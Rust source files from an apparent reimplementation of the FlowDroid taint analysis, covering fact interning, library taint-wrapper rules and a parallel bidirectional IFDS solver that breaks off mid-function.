        debug_assert_eq!(zero, FactId::ZERO);
        i
    }

    /// Interns an access path, returning its id (assigning the next id
    /// on first encounter).
    pub fn intern_ap(&mut self, ap: &AccessPath) -> ApId {
        if let Some(&id) = self.ap_ids.get(ap) {
            return id;
        }
        let id = ApId(u32::try_from(self.aps.len()).expect("access-path arena overflow"));
        self.aps.push(*ap);
        self.ap_ids.insert(*ap, id);
        id
    }

    /// The access path behind `id`.
    pub fn resolve_ap(&self, id: ApId) -> &AccessPath {
        &self.aps[id.index()]
    }

    fn intern_repr(&mut self, repr: FactRepr) -> FactId {
        if let Some(&id) = self.fact_ids.get(&repr) {
            return id;
        }
        let id = FactId(u32::try_from(self.facts.len()).expect("fact arena overflow"));
        self.facts.push(repr);
        self.fact_ids.insert(repr, id);
        id
    }

    /// Interns a fact, returning its id.
    pub fn intern_fact(&mut self, f: &Fact) -> FactId {
        let repr = match f {
            Fact::Zero => FactRepr::Zero,
            Fact::T(t) => FactRepr::T {
                ap: self.intern_ap(&t.ap),
                active: t.active,
                activation: t.activation,
            },
        };
        self.intern_repr(repr)
    }

    /// Reconstructs the fact behind `id`. Since access paths hold
    /// arena-interned field slices, this is a plain `Copy` — no
    /// allocation.
    pub fn resolve_fact(&self, id: FactId) -> Fact {
        match self.facts[id.index()] {
            FactRepr::Zero => Fact::Zero,
            FactRepr::T { ap, active, activation } => Fact::T(Taint {
                ap: *self.resolve_ap(ap),
                active,
                activation,
            }),
        }
    }

    /// Number of distinct facts interned (including `Zero`).
    pub fn fact_count(&self) -> usize {
        self.facts.len()
    }

    /// Number of distinct access paths interned.
    pub fn ap_count(&self) -> usize {
        self.aps.len()
    }
}

/// The solver's key choice: how facts are represented in its tables.
///
/// `intern` is the only way keys are produced and `resolve` the only way
/// they are read back, so an implementation either hands facts through
/// unchanged ([`DirectDomain`]) or hash-conses them ([`InternedDomain`]).
pub trait FactDomain {
    /// The table key type.
    type Key: Clone + Eq + Hash + Debug;

    /// Creates the domain.
    fn new() -> Self;
    /// Maps a fact to its key.
    fn intern(&mut self, f: &Fact) -> Self::Key;
    /// Maps a key back to its fact.
    fn resolve(&self, k: &Self::Key) -> Fact;
    /// The key of [`Fact::Zero`].
    fn zero(&self) -> Self::Key;
    /// Returns `true` if `k` is the key of [`Fact::Zero`].
    fn is_zero(&self, k: &Self::Key) -> bool;
    /// `(distinct facts, distinct access paths)` seen, when tracked.
    fn stats(&self) -> Option<(usize, usize)>;
}

/// Keys tables on whole [`Fact`] values (the pre-interning behavior,
/// kept for the benchmark comparison).
#[derive(Debug, Default)]
pub struct DirectDomain;

impl FactDomain for DirectDomain {
    type Key = Fact;

    fn new() -> Self {
        DirectDomain
    }

    fn intern(&mut self, f: &Fact) -> Fact {
        f.clone()
    }

    fn resolve(&self, k: &Fact) -> Fact {
        k.clone()
    }

    fn zero(&self) -> Fact {
        Fact::Zero
    }

    fn is_zero(&self, k: &Fact) -> bool {
        k.is_zero()
    }

    fn stats(&self) -> Option<(usize, usize)> {
        None
    }
}

/// Keys tables on [`FactId`]s via an [`Interner`] (the default).
#[derive(Debug, Default)]
pub struct InternedDomain {
    interner: Interner,
}

impl FactDomain for InternedDomain {
    type Key = FactId;

    fn new() -> Self {
        InternedDomain { interner: Interner::new() }
    }

    fn intern(&mut self, f: &Fact) -> FactId {
        self.interner.intern_fact(f)
    }

    fn resolve(&self, k: &FactId) -> Fact {
        self.interner.resolve_fact(*k)
    }

    fn zero(&self) -> FactId {
        FactId::ZERO
    }

    fn is_zero(&self, k: &FactId) -> bool {
        *k == FactId::ZERO
    }

    fn stats(&self) -> Option<(usize, usize)> {
        Some((self.interner.fact_count(), self.interner.ap_count()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::{FieldId, Local, MethodId};

    fn ap(l: u32, fields: &[usize]) -> AccessPath {
        let mut a = AccessPath::local(Local(l));
        for &f in fields {
            a = a.append(FieldId::from_index(f), 5);
        }
        a
    }

    #[test]
    fn ap_round_trip_and_dedup() {
        let mut i = Interner::new();
        let a = ap(0, &[1, 2]);
        let b = ap(0, &[1, 2]);
        let c = ap(0, &[2, 1]);
        let ia = i.intern_ap(&a);
        assert_eq!(i.intern_ap(&b), ia);
        assert_ne!(i.intern_ap(&c), ia);
        assert_eq!(i.resolve_ap(ia), &a);
        assert_eq!(i.ap_count(), 2);
    }

    #[test]
    fn zero_is_id_zero() {
        let mut i = Interner::new();
        assert_eq!(i.intern_fact(&Fact::Zero), FactId::ZERO);
        assert_eq!(i.resolve_fact(FactId::ZERO), Fact::Zero);
    }

    #[test]
    fn fact_round_trip_distinguishes_activation() {
        let mut i = Interner::new();
        let act = StmtRef::new(MethodId::from_index(0), 3);
        let active = Fact::T(Taint::active(ap(1, &[0])));
        let inactive = Fact::T(Taint::inactive(ap(1, &[0]), act));
        let ia = i.intern_fact(&active);
        let ii = i.intern_fact(&inactive);
        assert_ne!(ia, ii);
        assert_eq!(i.resolve_fact(ia), active);
        assert_eq!(i.resolve_fact(ii), inactive);
        // Same access path arena entry backs both facts.
        assert_eq!(i.ap_count(), 1);
    }

    #[test]
    fn first_encounter_order_is_dense() {
        let mut i = Interner::new();
        let ids: Vec<FactId> = (0..5)
            .map(|l| i.intern_fact(&Fact::T(Taint::active(ap(l, &[])))))
            .collect();
        let idx: Vec<usize> = ids.iter().map(|d| d.index()).collect();
        assert_eq!(idx, vec![1, 2, 3, 4, 5]);
    }

    #[test]
    fn domains_agree_on_zero() {
        let mut d = DirectDomain::new();
        let mut n = InternedDomain::new();
        let z1 = d.intern(&Fact::Zero);
        let z2 = n.intern(&Fact::Zero);
        assert!(d.is_zero(&z1) && n.is_zero(&z2));
        assert_eq!(d.zero(), z1);
        assert_eq!(n.zero(), z2);
        assert!(d.stats().is_none());
        assert_eq!(n.stats(), Some((1, 0)));
    }
}
