//! Taint wrappers: "shortcut rules" for library methods (paper §5).
//!
//! Including the whole JRE/Android runtime in the analysis would be slow
//! and imprecise, so calls into the library are modeled by rules of the
//! form *"if any of these positions is tainted, taint those positions"*.
//! Rules are written in a simple textual format:
//!
//! ```text
//! <java.lang.StringBuilder: java.lang.StringBuilder append(java.lang.String)> base,arg0 -> base,ret
//! <java.util.List: boolean add(java.lang.Object)> arg0 -> base
//! <java.lang.System: void arraycopy(java.lang.Object,int,java.lang.Object,int,int)> arg0 -> arg2
//! ```
//!
//! Rule matching walks the class hierarchy, so a rule on
//! `java.util.List` applies to calls through `java.util.ArrayList`.
//! Calls to body-less methods with *no* rule fall back to the paper's
//! native-call default: the return value becomes tainted if the
//! receiver or any argument was (configurable).

use crate::sourcesink::{matching_sigs, SourceSinkParseError};
use flowdroid_ir::{InvokeExpr, Local, Operand, Program};
use std::collections::HashMap;
use std::fmt;

/// A position in a call: receiver, return value or argument.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Pos {
    /// The receiver object.
    Base,
    /// The returned value.
    Ret,
    /// The i-th argument.
    Arg(usize),
}

impl fmt::Display for Pos {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Pos::Base => write!(f, "base"),
            Pos::Ret => write!(f, "ret"),
            Pos::Arg(i) => write!(f, "arg{i}"),
        }
    }
}

#[derive(Clone, Debug)]
struct Rule {
    if_any: Vec<Pos>,
    taint: Vec<Pos>,
}

/// The wrapper rule set.
#[derive(Debug, Default)]
pub struct TaintWrapper {
    rules: HashMap<String, Vec<Rule>>,
}

/// The built-in rules: strings, string builders, collections, maps,
/// iterators, intents, bundles and `System.arraycopy` (the paper's
/// running native-rule example).
pub const DEFAULT_WRAPPER_RULES: &str = r#"
<java.lang.StringBuilder: java.lang.StringBuilder append(java.lang.String)> base,arg0 -> base,ret
<java.lang.StringBuilder: java.lang.String toString()> base -> ret
<java.lang.Object: java.lang.String toString()> base -> ret
<java.lang.String: java.lang.String concat(java.lang.String)> base,arg0 -> ret
<java.lang.String: java.lang.String substring(int)> base -> ret
<java.lang.String: char[] toCharArray()> base -> ret
<java.lang.String: java.lang.String valueOf(java.lang.Object)> arg0 -> ret
<android.widget.TextView: java.lang.String getText()> base -> ret
<java.util.Collection: boolean add(java.lang.Object)> arg0 -> base
<java.util.List: boolean add(java.lang.Object)> arg0 -> base
<java.util.Set: boolean add(java.lang.Object)> arg0 -> base
<java.util.List: java.lang.Object get(int)> base -> ret
<java.util.Collection: java.util.Iterator iterator()> base -> ret
<java.util.List: java.util.Iterator iterator()> base -> ret
<java.util.Set: java.util.Iterator iterator()> base -> ret
<java.util.Iterator: java.lang.Object next()> base -> ret
<java.util.Map: java.lang.Object put(java.lang.Object,java.lang.Object)> arg0,arg1 -> base
<java.util.Map: java.lang.Object get(java.lang.Object)> base -> ret
<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)> arg1 -> base,ret
<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)> base -> ret
<android.content.Intent: java.lang.String getStringExtra(java.lang.String)> base -> ret
<android.os.Bundle: void putString(java.lang.String,java.lang.String)> arg1 -> base
<android.os.Bundle: java.lang.String getString(java.lang.String)> base -> ret
<java.lang.System: void arraycopy(java.lang.Object,int,java.lang.Object,int,int)> arg0 -> arg2
"#;

impl TaintWrapper {
    /// An empty rule set.
    pub fn new() -> Self {
        Self::default()
    }

    /// The built-in default rules.
    pub fn default_rules() -> TaintWrapper {
        Self::parse(DEFAULT_WRAPPER_RULES).expect("built-in rules parse")
    }

    /// Parses rules from the textual format.
    ///
    /// # Errors
    ///
    /// Returns [`SourceSinkParseError`] on malformed lines.
    pub fn parse(text: &str) -> Result<TaintWrapper, SourceSinkParseError> {
        let mut w = TaintWrapper::new();
        w.add_rules(text)?;
        Ok(w)
    }

    /// Adds rules from the textual format.
    ///
    /// # Errors
    ///
    /// Returns [`SourceSinkParseError`] on malformed lines.
    pub fn add_rules(&mut self, text: &str) -> Result<(), SourceSinkParseError> {
        for (i, raw) in text.lines().enumerate() {
            let line = raw.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let err = |message: String| SourceSinkParseError { message, line: i + 1 };
            let Some(close) = line.find('>') else {
                return Err(err("expected `<sig>`".to_owned()));
            };
            let sig = line[..=close].to_owned();
            let rest = line[close + 1..].trim();
            let Some((if_any, taint)) = rest.split_once("->") else {
                return Err(err("expected `positions -> positions`".to_owned()));
            };
            let parse_positions = |s: &str| -> Result<Vec<Pos>, SourceSinkParseError> {
                s.split(',')
                    .map(str::trim)
                    .filter(|p| !p.is_empty())
                    .map(|p| match p {
                        "base" => Ok(Pos::Base),
                        "ret" => Ok(Pos::Ret),
                        other => other
                            .strip_prefix("arg")
                            .and_then(|n| n.parse().ok())
                            .map(Pos::Arg)
                            .ok_or_else(|| err(format!("bad position `{other}`"))),
                    })
                    .collect()
            };
            let rule = Rule { if_any: parse_positions(if_any)?, taint: parse_positions(taint)? };
            if rule.if_any.is_empty() || rule.taint.is_empty() {
                return Err(err("rule needs at least one position on each side".to_owned()));
            }
            self.rules.entry(sig).or_default().push(rule);
        }
        Ok(())
    }

    fn rules_of<'a>(&'a self, program: &Program, call: &InvokeExpr) -> Vec<&'a Rule> {
        let mut out = Vec::new();
        for sig in matching_sigs(program, call.callee.class, &call.callee.subsig) {
            if let Some(rs) = self.rules.get(&sig) {
                out.extend(rs.iter());
            }
        }
        out
    }

    /// Returns `true` if any rule covers this call (used to suppress the
    /// native-call fallback).
    pub fn has_rule(&self, program: &Program, call: &InvokeExpr) -> bool {
        !self.rules_of(program, call).is_empty()
    }

    /// Applies the rules: given the *whole-object-tainted* positions of
    /// a call (the caller computes which positions a taint covers),
    /// returns the positions to taint.
    pub fn apply(
        &self,
        program: &Program,
        call: &InvokeExpr,
        tainted: &dyn Fn(Pos) -> bool,
    ) -> Vec<Pos> {
        let mut out = Vec::new();
        for rule in self.rules_of(program, call) {
            if rule.if_any.iter().any(|&p| tainted(p)) {
                for &t in &rule.taint {
                    if !out.contains(&t) {
                        out.push(t);
                    }
                }
            }
        }
        out
    }

    /// Resolves a position to a local at a call site (`None` when the
    /// position does not exist or is not a local).
    pub fn pos_local(call: &InvokeExpr, result: Option<Local>, pos: Pos) -> Option<Local> {
        match pos {
            Pos::Base => call.base,
            Pos::Ret => result,
            Pos::Arg(i) => match call.args.get(i) {
                Some(Operand::Local(l)) => Some(*l),
                _ => None,
            },
        }
    }

    /// A stable hash of the configured rules, independent of map
    /// iteration order (per-signature rule order is preserved — it is
    /// part of the configuration). Part of the summary cache's context
    /// hash.
    pub fn fingerprint(&self) -> u64 {
        let mut entries: Vec<String> =
            self.rules.iter().map(|(sig, rules)| format!("{sig}:{rules:?}")).collect();
        entries.sort_unstable();
        flowdroid_ir::fxhash64(&entries)
    }

    /// Number of rule signatures.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// Returns `true` if no rules are configured.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_android::install_platform;
    use flowdroid_ir::{MethodBuilder, Type};

    #[test]
    fn default_rules_parse() {
        let w = TaintWrapper::default_rules();
        assert!(w.len() > 10);
    }

    #[test]
    fn rule_matching_and_application() {
        let mut p = Program::new();
        install_platform(&mut p);
        let w = TaintWrapper::default_rules();
        let c = p.declare_class("T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "t", vec![], Type::Void);
        let sbty = b.program().ref_type("java.lang.StringBuilder");
        let sty = b.program().ref_type("java.lang.String");
        let sb = b.local("sb", sbty.clone());
        let s = b.local("s", sty.clone());
        let call = b.invoke_expr(
            flowdroid_ir::InvokeKind::Virtual,
            Some(sb),
            "java.lang.StringBuilder",
            "append",
            vec![sty],
            sbty,
            vec![Operand::Local(s)],
        );
        b.finish();
        assert!(w.has_rule(&p, &call));
        // arg0 tainted → base and ret tainted.
        let out = w.apply(&p, &call, &|pos| pos == Pos::Arg(0));
        assert!(out.contains(&Pos::Base));
        assert!(out.contains(&Pos::Ret));
        // nothing tainted → nothing.
        assert!(w.apply(&p, &call, &|_| false).is_empty());
    }

    #[test]
    fn hierarchy_matching_applies_interface_rules() {
        // ArrayList.add matches the List.add rule.
        let mut p = Program::new();
        install_platform(&mut p);
        let w = TaintWrapper::default_rules();
        let c = p.declare_class("T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "t", vec![], Type::Void);
        let lty = b.program().ref_type("java.util.ArrayList");
        let oty = b.program().ref_type("java.lang.Object");
        let l = b.local("l", lty);
        let o = b.local("o", oty.clone());
        let call = b.invoke_expr(
            flowdroid_ir::InvokeKind::Virtual,
            Some(l),
            "java.util.ArrayList",
            "add",
            vec![oty],
            Type::Boolean,
            vec![Operand::Local(o)],
        );
        b.finish();
        assert!(w.has_rule(&p, &call), "interface rule must match subclass call");
        let out = w.apply(&p, &call, &|pos| pos == Pos::Arg(0));
        assert_eq!(out, vec![Pos::Base]);
    }

    #[test]
    fn pos_local_resolution() {
        let mut p = Program::new();
        let c = p.declare_class("T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "t", vec![], Type::Void);
        let oty = b.program().ref_type("O");
        let base = b.local("base", oty.clone());
        let a = b.local("a", oty.clone());
        let r = b.local("r", oty.clone());
        let call = b.invoke_expr(
            flowdroid_ir::InvokeKind::Virtual,
            Some(base),
            "O",
            "m",
            vec![oty.clone(), oty],
            Type::Void,
            vec![Operand::Local(a), Operand::Const(flowdroid_ir::Constant::Null)],
        );
        b.finish();
        assert_eq!(TaintWrapper::pos_local(&call, Some(r), Pos::Base), Some(base));
        assert_eq!(TaintWrapper::pos_local(&call, Some(r), Pos::Ret), Some(r));
        assert_eq!(TaintWrapper::pos_local(&call, None, Pos::Ret), None);
        assert_eq!(TaintWrapper::pos_local(&call, None, Pos::Arg(0)), Some(a));
        assert_eq!(TaintWrapper::pos_local(&call, None, Pos::Arg(1)), None);
        assert_eq!(TaintWrapper::pos_local(&call, None, Pos::Arg(9)), None);
    }

    #[test]
    fn parse_errors() {
        assert!(TaintWrapper::parse("junk").is_err());
        assert!(TaintWrapper::parse("<a: void b()> wat -> ret").is_err());
        assert!(TaintWrapper::parse("<a: void b()> base ->").is_err());
    }
}
