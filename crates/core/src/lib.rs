#![warn(missing_docs)]

//! The FlowDroid taint analysis: context-, flow-, field- and
//! object-sensitive, lifecycle-aware (PLDI 2014, reproduced in Rust).
//!
//! The analysis is phrased as two cooperating IFDS solvers over a taint
//! domain of bounded *access paths* (paper §4):
//!
//! * the **forward taint solver** propagates taints from sources along
//!   the interprocedural CFG;
//! * whenever a tainted value is written to the heap, the **on-demand
//!   backward alias solver** searches upward for aliases of the target,
//!   spawning forward propagation for each alias it finds.
//!
//! Two mechanisms keep the pair precise (paper §4.2):
//!
//! * **context injection** — the full path edge (including the
//!   method-entry fact `d1`) is handed from one solver to the other, so
//!   taints remain conditional on the calling context that produced
//!   them, ruling out unrealizable-path false positives (Listing 2);
//! * **activation statements** — aliases are born *inactive*, tagged
//!   with the heap write that triggered the search, and only start to
//!   count as leaks once forward propagation crosses that statement (or
//!   a call that transitively contains it), preserving flow sensitivity
//!   (Listing 3).
//!
//! The high-level entry points are [`Infoflow`] for arbitrary programs
//! (SecuriBench-style, explicit entry points) and
//! [`Infoflow::analyze_app`] for Android apps (lifecycle-aware dummy
//! main, layout-driven UI sources, manifest-driven components).

pub mod access_path;
pub mod analysis;
pub mod cg_cache;
pub mod config;
mod flows;
pub mod icc;
pub mod intern;
mod par_solver;
pub mod results;
pub mod solver;
pub mod sourcesink;
pub mod summary_cache;
pub mod taint;
pub mod wrappers;

pub use access_path::{AccessPath, ApBase};
pub use analysis::{AppAnalysis, Infoflow};
pub use cg_cache::{CachedSetup, CgCache, CgCacheStats};
pub use config::{InfoflowConfig, ProgressEvent, ProgressSink};
pub use icc::{analyze_app_linked, IccResults};
pub use intern::{
    ApId, DirectDomain, FactDomain, FactId, InternedDomain, InternedHashDomain, Interner,
    SharedInternedKeys, SharedInterner,
};
pub use flowdroid_ifds::{AbortHandle, AbortReason, SchedulerStats, TableStats};
pub use results::{InfoflowResults, Leak};
pub use sourcesink::{SourceSinkManager, SourceSinkParseError};
pub use summary_cache::{flush_summary_cache, SummaryCacheStats};
pub use taint::{Fact, Taint};
pub use wrappers::TaintWrapper;
