//! The parallel bidirectional taint engine.
//!
//! Runs the forward taint propagation and the on-demand backward alias
//! search of [`BiSolver`](crate::solver::BiSolver) as *interleaved jobs*
//! over a [`WorkStealScheduler`]: every pending path edge — forward or
//! backward — is one job, sharded by the method of its target statement
//! so a method's edges cluster on one queue (and its CFG / fact data
//! stays cache-warm on one worker) while idle workers steal batches
//! from other shards. Each direction keeps its tables in a
//! [`ConcurrentTabulator`].
//!
//! Results are **bit-identical** to the sequential solver at any worker
//! count, by construction rather than by locking the whole fixpoint:
//!
//! * the transfer functions ([`Flows`]) are pure and shared with the
//!   sequential engine, so a given edge produces the same successor
//!   edges wherever it is processed;
//! * every cross-table handshake (summaries × incoming contexts,
//!   forward × backward caller facts) first records its own half and
//!   then reads the other's — with each table shard a mutex, the
//!   release/acquire ordering guarantees at most one side of a racing
//!   pair misses the other, and that side is covered by its partner;
//!   hence the computed fixpoint is the unique one, independent of
//!   interleaving;
//! * provenance keeps the *set* of all offered predecessor links (the
//!   same set in any order, since every edge is processed exactly once)
//!   and leak attribution runs the same deterministic breadth-first
//!   search as the sequential engine over it;
//! * recorded leaks are canonically sorted before deduplication.
//!
//! Worker-private state is limited to what never influences results: a
//! memoized reachability cache over the immutable call graph, a leak
//! buffer merged (and canonicalized) at the end, and a local job buffer
//! — discoveries are processed worker-locally (LIFO, cache-warm) and
//! only the surplus beyond [`SPILL`] is published to the scheduler for
//! stealing, so the shared queues see batch traffic instead of every
//! single edge. Claimed batches stay counted as in-flight until the
//! local buffer drains, which keeps the scheduler's termination
//! detection exact.

use crate::config::InfoflowConfig;
use crate::flows::{Flows, ReachCache};
use crate::results::{InfoflowResults, Leak};
use crate::sourcesink::SourceSinkManager;
use crate::summary_cache::SummaryCacheSession;
use crate::taint::{Fact, Taint};
use crate::wrappers::TaintWrapper;
use flowdroid_callgraph::Icfg;
use flowdroid_ifds::{
    drive, AbortHandle, AbortReason, ConcurrentKeyDomain, ConcurrentTabulator, IdentityKeys,
    WorkStealScheduler, WorkerState, DEFAULT_BATCH, DEFAULT_SHARDS,
};
use flowdroid_ir::{fxhash64, FxHashMap, MethodId, Stmt, StmtRef};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

/// Propagation direction of a job.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Dir {
    Fw,
    Bw,
}

/// One pending path edge: direction, context fact `d1`, statement `n`,
/// fact `d2`.
type Job = (Dir, Fact, StmtRef, Fact);

/// Number of provenance shards (power of two).
const PROV_SHARDS: usize = 16;

/// Local-buffer high-water mark: a worker holding more pending jobs
/// than this publishes the oldest ones to the scheduler so idle workers
/// can steal them.
const SPILL: usize = 64;

/// How many jobs a worker processes between abort-budget checks.
const BUDGET_CHECK_EVERY: usize = 128;

/// One shard of the provenance tables, keyed by `(statement, fact)`
/// (each key lives in exactly one shard).
#[derive(Default)]
struct ProvShard {
    preds: FxHashMap<(StmtRef, Fact), Vec<(StmtRef, Fact)>>,
    gen_source: FxHashMap<(StmtRef, Fact), StmtRef>,
}

/// Worker-private state: never observable in the results.
#[derive(Default)]
struct WorkerCtx {
    reach_cache: ReachCache,
    leaks: Vec<(StmtRef, Taint)>,
    /// Discovered-but-unprocessed jobs, drained LIFO before the claimed
    /// batch is retired (which results in the same fixpoint — edge
    /// processing is order-independent, see the module docs).
    pending: Vec<Job>,
    /// Jobs processed since the last abort-budget check.
    since_check: usize,
}

impl WorkerState<Job> for WorkerCtx {
    fn pending(&mut self) -> &mut Vec<Job> {
        &mut self.pending
    }
}

/// The parallel engine. Public API mirrors
/// [`BiSolver`](crate::solver::BiSolver).
///
/// Generic over a [`ConcurrentKeyDomain`]: the engine itself always
/// speaks [`Fact`]s (jobs, transfer functions, provenance), while the
/// domain decides how the tabulators key and lay out their tables —
/// [`IdentityKeys`] keeps the fact-keyed hash maps, the shared-interner
/// domain ([`crate::intern::SharedInternedKeys`]) stores id-indexed
/// bitset rows.
pub(crate) struct ParBiSolver<'a, D: ConcurrentKeyDomain<Fact> = IdentityKeys> {
    flows: Flows<'a>,
    threads: usize,
    fw: ConcurrentTabulator<Fact, D>,
    bw: ConcurrentTabulator<Fact, D>,
    sched: WorkStealScheduler<Job>,
    prov: Vec<Mutex<ProvShard>>,
    /// Persistent end-summary store session, when configured.
    cache: Option<SummaryCacheSession>,
    /// Leaks recorded so far across all workers. The leak buffers
    /// themselves stay worker-private until the final merge; this
    /// counter exists only so streamed progress events can report a
    /// running total. Never read by the fixpoint.
    leak_count: AtomicU64,
    /// Cooperative abort token: the caller's
    /// ([`InfoflowConfig::abort`]) when configured, else a private one
    /// that only the propagation budget can trip.
    abort: AbortHandle,
}

impl<'a, D: ConcurrentKeyDomain<Fact> + Clone> ParBiSolver<'a, D> {
    /// Creates an engine with `threads` workers (at least 1). Both
    /// directions share `dom` (cloning must share interning state, as
    /// `SharedInternedKeys` does), so forward and backward tables agree
    /// on keys.
    pub fn new(
        icfg: Icfg<'a>,
        sources: &'a SourceSinkManager,
        wrapper: &'a TaintWrapper,
        config: &'a InfoflowConfig,
        threads: usize,
        dom: D,
    ) -> Self {
        let cache = config
            .summary_cache
            .as_deref()
            .map(|dir| SummaryCacheSession::new(dir, &icfg, sources, wrapper, config));
        ParBiSolver {
            flows: Flows { icfg, sources, wrapper, config },
            threads: threads.max(1),
            fw: ConcurrentTabulator::with_domain(dom.clone()),
            bw: ConcurrentTabulator::with_domain(dom),
            sched: WorkStealScheduler::new(DEFAULT_SHARDS, DEFAULT_BATCH),
            prov: (0..PROV_SHARDS).map(|_| Mutex::new(ProvShard::default())).collect(),
            cache,
            leak_count: AtomicU64::new(0),
            abort: config.abort.clone().unwrap_or_default(),
        }
    }
}

impl<'a, D: ConcurrentKeyDomain<Fact>> ParBiSolver<'a, D> {

    fn config(&self) -> &'a InfoflowConfig {
        self.flows.config
    }

    fn stmt(&self, n: StmtRef) -> &'a Stmt {
        self.flows.stmt(n)
    }

    /// Delivers a progress snapshot to the configured sink, if any.
    /// Counter reads are relaxed: events are advisory snapshots, not
    /// synchronization points.
    fn emit_progress(&self, new_leak: Option<(u32, String)>) {
        let Some(sink) = &self.config().progress else { return };
        sink.emit(&crate::config::ProgressEvent {
            forward_propagations: self.fw.propagation_count(),
            backward_propagations: self.bw.propagation_count(),
            bodies_materialized: self.flows.program().bodies_materialized(),
            summary_hits: self.cache.as_ref().map_or(0, |c| c.hits_so_far()),
            leaks: self.leak_count.load(Ordering::Relaxed),
            new_leak,
        });
    }

    /// Runs the analysis from the given entry methods and collects
    /// results.
    pub fn solve(self, entry_points: &[MethodId]) -> InfoflowResults {
        let start = std::time::Instant::now();
        let mut seeds = WorkerCtx::default();
        for &ep in entry_points {
            for sp in self.flows.icfg.start_points_of(ep) {
                self.fw_propagate(&mut seeds, Fact::Zero, sp, Fact::Zero, None);
            }
        }
        self.publish(&mut seeds.pending, 0);
        // The shared drive harness (also used by the generic IFDS
        // solver) owns the claim/drain/spill loop, including the
        // adaptive spill threshold that publishes more aggressively
        // when workers sit idle.
        let max = self.config().max_propagations;
        let workers = drive(
            &self.sched,
            self.threads,
            SPILL,
            Some(&self.abort),
            |_| WorkerCtx::default(),
            |job: &Job| self.sched.shard_for(&job.2.method),
            |ctx, (dir, d1, n, d2)| {
                ctx.since_check += 1;
                if ctx.since_check >= BUDGET_CHECK_EVERY {
                    ctx.since_check = 0;
                    // Streaming piggybacks on the budget-poll interval:
                    // the sink only observes, so streamed runs compute
                    // the same fixpoint.
                    self.emit_progress(None);
                    if max > 0 && self.fw.propagation_count() > max {
                        // Budget exhausted: stop every worker; reported
                        // leaks are a lower bound. (Deadline and cancel
                        // checks live in the drive loop itself.)
                        self.abort.trip(AbortReason::Budget);
                        return false;
                    }
                }
                match dir {
                    Dir::Fw => self.process_forward(ctx, d1, n, d2),
                    Dir::Bw => self.process_backward(ctx, d1, n, d2),
                }
                true
            },
        );
        // Merge worker leak buffers in worker-index order (canonical
        // sorting below removes any remaining order dependence).
        let mut leaks = Vec::new();
        for mut w in workers {
            leaks.append(&mut w.leaks);
        }
        self.collect_results(leaks, start.elapsed())
    }

    /// Moves all but the newest `keep` jobs of `pending` onto the
    /// shared scheduler, sharded by the target statement's method.
    fn publish(&self, pending: &mut Vec<Job>, keep: usize) {
        for job in pending.drain(..pending.len() - keep) {
            self.sched.push(self.sched.shard_for(&job.2.method), job);
        }
    }

    // ================= shared helpers =================

    fn prov_shard(&self, n: StmtRef) -> &Mutex<ProvShard> {
        let h = fxhash64(&n) as usize;
        &self.prov[(h >> (64 - PROV_SHARDS.trailing_zeros())) & (PROV_SHARDS - 1)]
    }

    fn fw_propagate(
        &self,
        ctx: &mut WorkerCtx,
        d1: Fact,
        n: StmtRef,
        d2: Fact,
        from: Option<(StmtRef, Fact)>,
    ) {
        self.record_pred(n, d2, from);
        if self.fw.record_edge(&d1, n, &d2) {
            ctx.pending.push((Dir::Fw, d1, n, d2));
        }
    }

    fn bw_propagate(
        &self,
        ctx: &mut WorkerCtx,
        d1: Fact,
        n: StmtRef,
        d2: Fact,
        from: Option<(StmtRef, Fact)>,
    ) {
        self.record_pred(n, d2, from);
        if self.bw.record_edge(&d1, n, &d2) {
            ctx.pending.push((Dir::Bw, d1, n, d2));
        }
    }

    /// Offers a provenance link for `(n, d2)`; all distinct origins are
    /// kept (see the sequential engine for the order-independence
    /// argument).
    fn record_pred(&self, n: StmtRef, d2: Fact, from: Option<(StmtRef, Fact)>) {
        if !self.config().track_paths {
            return;
        }
        let Some(origin) = from else { return };
        if origin == (n, d2) {
            return;
        }
        let mut shard = self.prov_shard(n).lock().unwrap();
        let v = shard.preds.entry((n, d2)).or_default();
        if !v.contains(&origin) {
            v.push(origin);
        }
    }

    /// Marks `fact` at `n` as generated by `src` (least source wins).
    fn mark_source(&self, n: StmtRef, fact: Fact, src: StmtRef) {
        if self.config().track_paths {
            let mut shard = self.prov_shard(n).lock().unwrap();
            let e = shard.gen_source.entry((n, fact)).or_insert(src);
            if src < *e {
                *e = src;
            }
        }
    }

    fn maybe_activate(&self, ctx: &mut WorkerCtx, n: StmtRef, t: &Taint) -> Taint {
        self.flows.maybe_activate(&mut ctx.reach_cache, n, t)
    }

    /// Injects an alias query for taint `g` into the backward solver,
    /// with context injection of `d1` (Algorithm 1, line 16).
    fn inject_alias_query(&self, ctx: &mut WorkerCtx, d1: Fact, n: StmtRef, g: &Taint) {
        let Some(q) = self.flows.alias_query_taint(n, g) else { return };
        let d1 = if self.config().enable_context_injection { d1 } else { Fact::Zero };
        self.bw_propagate(ctx, d1, n, Fact::T(q), Some((n, Fact::T(*g))));
    }

    // ================= forward solver =================

    fn process_forward(&self, ctx: &mut WorkerCtx, d1: Fact, n: StmtRef, d2: Fact) {
        let stmt = self.stmt(n);
        let has_body_callees = !self.flows.icfg.callees_of_call(n).is_empty();
        if stmt.is_call() && has_body_callees {
            self.forward_call(ctx, n, d2);
            self.forward_call_to_return(ctx, d1, n, d2);
        } else if stmt.is_call() {
            self.forward_call_to_return(ctx, d1, n, d2);
        } else if stmt.is_exit() {
            self.forward_exit(ctx, d1, n, d2);
        } else {
            self.forward_normal(ctx, d1, n, d2);
        }
    }

    fn forward_normal(&self, ctx: &mut WorkerCtx, d1: Fact, n: StmtRef, d2: Fact) {
        let out = match (self.stmt(n), &d2) {
            (Stmt::Assign { lhs, rhs }, Fact::T(t)) => {
